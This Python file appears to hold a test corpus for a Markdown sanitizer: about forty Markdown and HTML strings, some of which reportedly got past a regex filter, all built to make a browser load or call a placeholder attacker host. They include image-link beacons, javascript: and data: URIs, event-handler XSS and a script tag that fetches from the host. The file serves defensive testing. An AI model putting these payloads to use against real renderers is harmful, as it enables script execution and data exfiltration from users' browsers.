"""Markdown that tries to make the browser contact another host: the forms that got past
the regex sanitizer (issue 13), then the usual XSS / Markdown cheat-sheet forms. `HOST`
stands for the attacker's host."""

from __future__ import annotations

# The forms that got past the regex sanitizer (issue 13), then the usual cheat-sheet forms.
BYPASSES = [
    "![a[b]c](//HOST/x)",
    "![alt over\ntwo lines](//HOST/x)",
    "![x\\]](//HOST/x)",
    "![x](\n//HOST/x)",
    "![x]\n(//HOST/x)",
    '![x](<//HOST/x> "title")',
    "![a][r]\n\n[r]:\n//HOST/x",
    "![a][r]\n\n[r]: //HOST/x\n  'title'",
    "![r]\n\n[r]: https://HOST/x",
    "[ph[i]sh](//HOST/k)",
    "[![img](//HOST/i)](//HOST/l)",
    "[x][r]\n\n[r]: //HOST/y",
    "[x]\n\n[x]: javascript:alert(1)",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](/relative/path.png)",
    "<img src=//HOST/x>",
    '<img src="https://HOST/x" onerror="alert(1)">',
    "<iframe src=//HOST/></iframe>",
    "<svg onload=alert(1)>",
    "<script>fetch('//HOST/s')</script>",
    '<a href="//HOST/a">click</a>',
    "<details open ontoggle=alert(1)>",
    "<!-- ![x](//HOST/c) -->",
    "<https://HOST/auto>",
    "<mailto:me@HOST.example>",
    "https://HOST/bare and www.HOST.example and me@HOST.example",
    "&lt;img src=//HOST/x&gt; &#33;[x](//HOST/x) &#x21;[y](//HOST/y)",
    "\\![x](//HOST/x)",
    "!\\[x](//HOST/x)",
    "[^1]\n\n[^1]: ![x](//HOST/f)",
    "```\n```\n![x](//HOST/fence)",
    "~~~\n![x](//HOST/tilde)\n~~~",
    "> ![x](//HOST/quote)\n- ![y](//HOST/list)",
    "| a |\n|---|\n| ![x](//HOST/cell) |",
    ":::note\n![x](//HOST/directive)\n:::",
    "::img{src=//HOST/leaf}",
]


def injection_corpus(host: str) -> str:
    """Every form, one paragraph each, aimed at `host`."""
    return "\n\n".join(BYPASSES).replace("HOST", host)
